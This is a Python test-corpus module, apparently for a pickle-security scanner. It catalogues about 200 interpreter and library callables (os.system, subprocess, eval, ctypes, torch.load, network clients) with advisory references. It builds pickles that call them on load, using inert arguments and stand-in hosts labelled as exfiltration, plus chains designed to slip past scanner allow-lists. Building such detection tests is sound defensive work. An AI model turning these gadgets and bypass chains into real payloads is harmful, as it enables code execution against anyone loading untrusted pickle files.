"""Class 1: callables of the interpreter and of libraries that do harm and are in few lists."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus._case import Case, slug
from tests.corpus._ops import ECHO, Raw, again, call, named, newobj, stream

# Module, name, inert arguments, where it was described.
GADGETS: tuple[tuple[str, str, tuple, str], ...] = (
    ("os", "popen", (ECHO,), "classic"),
    ("os", "execvp", ("echo", ["echo", "inert"]), "classic"),
    ("os", "spawnvp", (0, "echo", ["echo", "inert"]), "classic"),
    ("os", "posix_spawnp", ("echo", ["echo", "inert"], {}), "classic"),
    ("os", "putenv", ("INERT", "1"), "classic"),
    ("os", "remove", ("/nonexistent/inert",), "classic"),
    ("posix", "system", (ECHO,), "classic"),
    ("nt", "system", (ECHO,), "classic"),
    ("builtins", "eval", ("'inert'",), "classic"),
    ("builtins", "exec", ("'inert'",), "classic"),
    ("builtins", "compile", ("1", "inert", "eval"), "CVE-2026-22612"),
    ("builtins", "__import__", ("this",), "CVE-2026-22612"),
    ("builtins", "open", ("/dev/null", "w"), "classic"),
    ("builtins", "getattr", ("inert", "upper"), "classic"),
    ("builtins", "breakpoint", (), "classic"),
    ("builtins", "globals", (), "classic"),
    ("builtins", "input", ("inert",), "classic"),
    ("builtins", "help", ("inert",), "classic"),
    ("builtins", "exit", (0,), "classic"),
    ("builtins", "print", ("inert",), "classic"),
    ("builtins", "delattr", ("inert", "x"), "classic"),
    ("builtins", "vars", (), "classic"),
    ("builtins", "type", ("Inert", (), {}), "classic"),
    ("subprocess", "Popen", (["echo", "inert"],), "classic"),
    ("subprocess", "check_output", (["echo", "inert"],), "classic"),
    ("subprocess", "run", (["echo", "inert"],), "classic"),
    ("subprocess", "getoutput", (ECHO,), "classic"),
    ("_posixsubprocess", "fork_exec", ((b"echo",), (b"/bin/echo",)), "classic"),
    ("pty", "spawn", (["echo", "inert"],), "GHSA-vqmv"),
    ("runpy", "run_path", ("/dev/null",), "classic"),
    ("runpy", "_run_code", ("1", {}), "classic"),
    ("pip", "main", (["--version"],), "CVE-2025-1716"),
    ("pip._internal", "main", (["--version"],), "CVE-2025-1716"),
    ("ensurepip", "_run_pip", (["--version"],), "GHSA-xp4f"),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", ("inert", 1), "GHSA-3vg9"),
    ("idlelib.calltip", "get_entity", ("'inert'",), "GHSA-6w4w"),
    ("idlelib.calltip", "Calltip.fetch_tip", ("'inert'",), "GHSA-7cq8"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", ("inert", "1"), "GHSA-8r4j"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", ("inert", "1"), "GHSA-9xph"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ("inert", "1"), "GHSA-m869"),
    ("idlelib.run", "Executive.runcode", ("inert", "1"), "GHSA-j343"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", ("inert", "1"), "GHSA-3gf5"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", (b"N.",), "GHSA-f54q"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", ("inert", "x"), "GHSA-p9w7"),
    ("trace", "Trace.run", ("inert", "1"), "GHSA-5qwp"),
    ("trace", "Trace.runctx", ("inert", "1", {}, {}), "GHSA-g344"),
    ("profile", "run", ("1",), "GHSA-x696"),
    ("profile", "runctx", ("1", {}, {}), "GHSA-6vqj"),
    ("profile", "Profile.run", ("inert", "1"), "GHSA-9w88"),
    ("cProfile", "run", ("1",), "GHSA-49gj"),
    ("cProfile", "runctx", ("1", {}, {}), "GHSA-7wx9"),
    ("timeit", "timeit", ("1", "1"), "GHSA-v7x6"),
    ("timeit", "repeat", ("1", "1"), "GHSA-v7x6"),
    ("timeit", "main", (["1"],), "GHSA-v7x6"),
    ("doctest", "debug_script", ("1",), "GHSA-fqq6"),
    ("code", "InteractiveInterpreter.runcode", ("inert", "1"), "GHSA-cj3c"),
    ("code", "interact", ("inert",), "GHSA-cj3c"),
    ("codeop", "compile_command", ("1",), "variant of GHSA-cj3c"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", ("1", {}), "GHSA-4r9r"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", ("1", {}), "GHSA-4whj"),
    ("torch.utils.collect_env", "run", (ECHO,), "GHSA-f745"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pkl", b"N."), "GHSA-jhph"),
    ("torch.utils._config_module", "ConfigModule.load_config", (b"N.",), "GHSA-h3qp"),
    ("torch.utils._config_module", "load_config", (b"N.",), "GHSA-vv6j"),
    ("torch.utils.cpp_extension", "load_inline", ("inert", ""), "variant of GHSA-f745"),
    ("torch._dynamo.guards", "GuardBuilder.get", ("inert", "1"), "GHSA-86cj"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ("1",), "GHSA-f4x7"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ("1", {}, {}), "GHSA-vr7h"),
    ("torch.hub", "load", ("inert/inert", "inert"), "variant of GHSA-f745"),
    ("torch.hub", "load_state_dict_from_url", ("http://inert.invalid",), "variant of GHSA-f745"),
    ("torch.serialization", "load", ("/dev/null",), "class 10 through torch"),
    ("torch", "load", ("/dev/null",), "class 10 through torch"),
    ("torch.ops", "load_library", ("/dev/null",), "variant of GHSA-f745"),
    ("torch._inductor.codecache", "compile_file", ("inert", "inert", "true"), "modelscan issue 311"),
    ("torch.distributed.elastic.rendezvous.api", "import_module", ("this",), "variant"),
    ("numpy.f2py.crackfortran", "getlincoef", ("1", {}), "GHSA-r8g5"),
    ("numpy.f2py.crackfortran", "_eval_length", ("1", {}), "GHSA-r8g5"),
    ("numpy.f2py", "compile", ("inert",), "GHSA-r8g5"),
    ("numpy.testing._private.utils", "runstring", ("1", {}), "picklescan tests"),
    ("numpy.testing", "measure", ("1",), "variant of runstring"),
    ("numpy.distutils.exec_command", "exec_command", (ECHO,), "classic"),
    ("numpy", "load", ("/dev/null",), "class 10"),
    ("numpy", "fromfile", ("/dev/null",), "classic"),
    ("numpy", "save", ("/dev/null", 1), "classic"),
    ("numpy", "vectorize", (Raw(named("os", "system")),), "variant"),
    ("numpy.ctypeslib", "load_library", ("inert", "/"), "GHSA-4675"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", ("inert", ECHO), "GHSA-q77w"),
    ("asyncio", "create_subprocess_shell", (ECHO,), "GHSA-q77w"),
    ("asyncio", "run", (None,), "GHSA-q77w"),
    ("ctypes", "CDLL", (None,), "GHSA-4675"),
    ("ctypes", "PyDLL", (None,), "GHSA-4675"),
    ("ctypes.util", "find_library", ("inert",), "GHSA-4675"),
    ("_ctypes", "dlopen", ("inert",), "GHSA-4675"),
    ("distutils.file_util", "write_file", ("/dev/null", []), "GHSA-m273"),
    ("distutils.spawn", "spawn", (["echo", "inert"],), "GHSA-m273"),
    ("setuptools._distutils.spawn", "spawn", (["echo", "inert"],), "GHSA-m273"),
    ("pydoc", "locate", ("os.system",), "GHSA-84r2"),
    ("pydoc", "pipepager", ("inert", "cat"), "GHSA-84r2"),
    ("operator", "attrgetter", ("system",), "GHSA-955r"),
    ("operator", "methodcaller", ("system", ECHO), "GHSA-46h3"),
    ("operator", "itemgetter", (0,), "GHSA-955r"),
    ("operator", "call", (Raw(named("os", "system")), ECHO), "GHSA-955r"),
    ("_operator", "attrgetter", ("system",), "GHSA-46h3"),
    ("pkgutil", "resolve_name", ("os:system",), "GHSA-vvpj"),
    ("importlib", "import_module", ("this",), "picklescan issue 66"),
    ("importlib.util", "spec_from_file_location", ("inert", "/dev/null"), "picklescan issue 66"),
    ("importlib._bootstrap", "_gcd_import", ("this",), "picklescan issue 66"),
    ("imp", "load_source", ("inert", "/dev/null"), "picklescan issue 66"),
    ("zipimport", "zipimporter", ("/dev/null",), "picklescan issue 66"),
    ("marshal", "loads", (b"N",), "picklescan pull 74"),
    ("uuid", "_get_command_stdout", ("echo", "inert"), "GHSA-g38g"),
    ("_osx_support", "_read_output", (ECHO,), "GHSA-g38g"),
    ("_osx_support", "_find_build_tool", ("echo inert",), "GHSA-g38g"),
    ("_aix_support", "_read_cmd_output", (ECHO,), "GHSA-g38g"),
    ("imaplib", "IMAP4_stream", (ECHO,), "GHSA-g38g"),
    ("_pyrepl.pager", "pipe_pager", ("inert", "cat"), "GHSA-g38g"),
    ("test.support.script_helper", "assert_python_ok", ("-c", "1"), "GHSA-g38g"),
    ("test.support", "run_in_subinterp", ("1",), "GHSA-g38g"),
    ("bdb", "Bdb.run", ("inert", "1"), "picklescan tests"),
    ("pdb", "run", ("1",), "variant of bdb"),
    ("ssl", "get_server_certificate", (("inert.invalid", 443),), "DNS exfiltration"),
    ("socket", "create_connection", (("inert.invalid", 53),), "DNS exfiltration"),
    ("socket", "gethostbyname", ("inert.invalid",), "DNS exfiltration"),
    ("urllib.request", "urlopen", ("http://inert.invalid",), "exfiltration"),
    ("urllib.request", "urlretrieve", ("http://inert.invalid", "/dev/null"), "exfiltration"),
    ("http.client", "HTTPSConnection", ("inert.invalid",), "exfiltration"),
    ("requests.api", "get", ("http://inert.invalid",), "exfiltration"),
    ("smtplib", "SMTP", ("inert.invalid",), "exfiltration"),
    ("ftplib", "FTP", ("inert.invalid",), "exfiltration"),
    ("telnetlib", "Telnet", ("inert.invalid",), "exfiltration"),
    ("xmlrpc.client", "ServerProxy", ("http://inert.invalid",), "exfiltration"),
    ("webbrowser", "open", ("about:blank",), "classic"),
    ("webbrowser", "BackgroundBrowser", ("echo",), "classic"),
    ("shutil", "rmtree", ("/nonexistent/inert",), "classic"),
    ("shutil", "copyfile", ("/dev/null", "/dev/null"), "classic"),
    ("shutil", "unpack_archive", ("/dev/null",), "classic"),
    ("pathlib", "PosixPath.write_text", (Raw(call("pathlib", "PosixPath", ("/dev/null",))), ""), "classic"),
    ("tempfile", "mktemp", (), "classic"),
    ("logging.config", "fileConfig", ("/dev/null",), "variant"),
    ("logging.config", "dictConfig", ({"version": 1},), "variant"),
    ("logging", "FileHandler", ("/dev/null",), "variant"),
    ("functools", "partial", (Raw(named("os", "system")), ECHO), "fickling issue 190"),
    ("functools", "reduce", (Raw(named("os", "system")), [ECHO], 0), "fickling issue 190"),
    ("itertools", "starmap", (Raw(named("os", "system")), [(ECHO,)]), "fickling issue 190"),
    ("builtins", "map", (Raw(named("os", "system")), [ECHO]), "fickling issue 190"),
    ("builtins", "filter", (Raw(named("os", "system")), [ECHO]), "fickling issue 190"),
    ("types", "CodeType", (0,), "picklescan pull 74"),
    ("types", "FunctionType", (Raw(call("marshal", "loads", (b"N",))), {}), "picklescan pull 74"),
    ("inspect", "getsource", (None,), "variant"),
    ("gc", "get_objects", (), "variant"),
    ("sys", "settrace", (None,), "variant"),
    ("sys", "setrecursionlimit", (1000,), "variant"),
    ("signal", "raise_signal", (0,), "variant"),
    ("threading", "Timer", (0, Raw(named("os", "system")), [ECHO]), "variant"),
    ("threading", "Thread", (None, Raw(named("os", "system"))), "variant"),
    ("multiprocessing.util", "spawnv_passfds", (b"/bin/echo", [b"echo"], []), "variant"),
    ("concurrent.futures.process", "_process_worker", (None, None, None, None), "variant"),
    ("atexit", "register", (Raw(named("os", "system")), ECHO), "variant"),
    ("weakref", "finalize", (None, Raw(named("os", "system")), ECHO), "variant"),
    ("sqlite3", "connect", ("/dev/null",), "variant"),
    ("dbm.dumb", "open", ("/nonexistent/inert",), "variant"),
    ("shelve", "open", ("/nonexistent/inert",), "class 10"),
    ("ast", "literal_eval", ("1",), "variant"),
    ("venv", "create", ("/nonexistent/inert",), "variant"),
    ("compileall", "compile_file", ("/dev/null",), "variant"),
    ("py_compile", "compile", ("/dev/null",), "variant"),
    ("site", "addsitedir", ("/nonexistent/inert",), "variant"),
    ("sysconfig", "_init_posix", ({},), "variant"),
    ("platform", "_syscmd_ver", (), "variant"),
    ("getpass", "getuser", (), "variant"),
    ("mailcap", "findmatch", ({}, "text/plain"), "variant"),
    ("nntplib", "NNTP", ("inert.invalid",), "exfiltration"),
    ("wsgiref.simple_server", "make_server", ("", 0, None), "variant"),
    ("http.server", "test", (), "variant"),
    ("unittest.main", "TestProgram", ("this",), "variant"),
    ("pytest", "main", (["--version"],), "variant"),
    ("IPython", "embed", (), "variant"),
    ("commands", "getoutput", (ECHO,), "variant"),
    ("cloudpickle.cloudpickle", "_make_function", (None, None, None, None, None), "variant"),
    ("cloudpickle.cloudpickle", "_builtin_type", ("CodeType",), "variant"),
    ("cloudpickle.cloudpickle", "subimport", ("this",), "variant"),
    ("dill._dill", "_import_module", ("os.system",), "variant"),
    ("dill._dill", "_create_function", (None, {}), "variant"),
    ("dill._dill", "_load_type", ("CodeType",), "variant"),
    ("pandas.io.common", "urlopen", ("http://inert.invalid",), "variant"),
    ("pandas", "eval", ("1",), "variant"),
    ("pandas.core.computation.eval", "eval", ("1",), "variant"),
    ("sympy.core.sympify", "sympify", ("1",), "variant"),
    ("scipy.io", "loadmat", ("/dev/null",), "variant"),
    ("sklearn.utils._testing", "_import", ("this",), "variant"),
    ("sklearn.datasets", "fetch_openml", ("inert",), "variant"),
    ("yaml", "unsafe_load", ("1",), "variant"),
    ("jinja2", "Template", ("inert",), "variant"),
    ("transformers", "pipeline", ("inert",), "variant"),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("a", "b"), "variant"),
    ("huggingface_hub", "hf_hub_download", ("inert", "inert"), "variant"),
    ("keras.src.utils.file_utils", "get_file", ("inert", "http://inert.invalid"), "variant"),
    ("tensorflow.python.ops.gen_io_ops", "write_file", ("/dev/null", ""), "variant"),
    ("hydra.utils", "instantiate", ({"_target_": "os.system"},), "CVE-2025-23304"),
    ("joblib.parallel", "BatchedCalls", ([],), "variant"),
    ("aiohttp.client", "ClientSession", (), "exfiltration"),
    ("copyreg", "add_extension", ("os", "system", 1), "class 12"),
    ("copyreg", "pickle", (None, None), "class 12"),
    ("_pickle", "loads", (b"N.",), "class 10"),
)  # fmt: skip

# What Python 2 calls them; the loader of protocols 0 to 2 gives them their new names.
OLD_NAMES = (
    ("__builtin__", "eval", ("'inert'",)),
    ("__builtin__", "execfile", ("/dev/null",)),
    ("__builtin__", "file", ("/dev/null", "w")),
    ("__builtin__", "apply", (Raw(named("os", "system")), (ECHO,))),
    ("__builtin__", "reduce", (Raw(named("os", "system")), [ECHO], 0)),
    ("commands", "getstatusoutput", (ECHO,)),
    ("urllib", "urlopen", ("http://inert.invalid",)),
    ("urllib2", "urlopen", ("http://inert.invalid",)),
    ("os", "popen2", (ECHO,)),
    ("popen2", "popen3", (ECHO,)),
    ("cPickle", "loads", (b"N.",)),
    ("copy_reg", "add_extension", ("os", "system", 1)),
    ("itertools", "imap", (Raw(named("os", "system")), [ECHO])),
    ("UserDict", "IterableUserDict", ()),
    ("SimpleHTTPServer", "test", ()),
    ("dbhash", "open", ("/dev/null",)),
)


def _chains() -> Iterator[tuple[str, bytes, str, str]]:
    module = call("importlib", "import_module", ("os",))
    found = call("builtins", "getattr", (module, "system"))
    yield "getattr_chain", again(found, (ECHO,)), "classic", "a module's attribute, then its call"
    located = call("pydoc", "locate", ("os",))
    caller = call("operator", "methodcaller", ("system", ECHO))
    yield "methodcaller_on_located", again(caller, (located,)), "GHSA-84r2", "the call of a result"
    resolved = call("pkgutil", "resolve_name", ("os:system",))
    yield "resolved_then_called", again(resolved, (ECHO,)), "GHSA-vvpj", "the call of a result"
    part = call("functools", "partial", (Raw(named("os", "system")), ECHO))
    yield "partial_then_called", again(part, ()), "fickling issue 190", "the call of a result"
    code = call("marshal", "loads", (b"N",))
    made = call("types", "FunctionType", (code, {}))
    yield "marshalled_code_called", again(made, ()), "picklescan pull 74", "code out of marshal"
    library = call("ctypes", "CDLL", (None,))
    symbol = call("builtins", "getattr", (library, "system"))
    yield "ctypes_symbol_called", again(symbol, (b"echo inert",)), "GHSA-4675", "libc's system"
    mapped = call("builtins", "map", (Raw(named("os", "system")), [ECHO]))
    yield "map_drained_by_list", call("builtins", "list", (mapped,)), "variant", "a lazy call"
    yield (
        "map_drained_by_bytearray", call("builtins", "bytearray", (mapped,)), "variant",
        "a lazy call, drained by a class that is listed as harmless",
    )  # fmt: skip
    yield (
        "map_drained_by_set", call("builtins", "set", (mapped,)), "variant",
        "a lazy call, drained by a class that is listed as harmless",
    )  # fmt: skip
    yield (
        "map_drained_by_counter", call("collections", "Counter", (mapped,)), "variant",
        "a lazy call, drained by a class that is listed as harmless",
    )  # fmt: skip
    yield (
        "map_drained_by_new_of_deque", newobj("collections", "deque", (mapped,)), "variant",
        "a lazy call, given to a class that is listed as harmless",
    )  # fmt: skip
    yield "only_imported", named("this", "s"), "variant", "an import alone runs the module's code"
    yield "only_imported_antigravity", named("antigravity", "fly"), "variant", "an import alone"
    yield (
        "sklearn_transformer_of_os_system",
        newobj("sklearn.preprocessing._function_transformer", "FunctionTransformer", ())
        + b"}(X\4\0\0\0func" + named("os", "system") + b"ub",
        "variant", "a class of the framework that will call what is put into it",
    )  # fmt: skip


def cases() -> Iterator[Case]:
    for number, (module, name, args, reference) in enumerate(GADGETS):
        protocol = (2, 4, 3, 0, 5, 1)[number % 6]
        data = stream(call(module, name, args, protocol), protocol)
        yield Case(
            f"gadget_{slug(module)}_{slug(name)}", data, "1", reference,
            f"{module}.{name} is called when the pickle is loaded",
        )  # fmt: skip
    for module, name, args in OLD_NAMES:
        data = stream(call(module, name, args, 0), 0)
        yield Case(
            f"python2_name_{slug(module)}_{slug(name)}", data, "1", "Python 2 names",
            f"{module}.{name} is called under its new name",
        )  # fmt: skip
    for name, body, reference, why in _chains():
        yield Case(f"chain_{name}", stream(body), "1", reference, why)
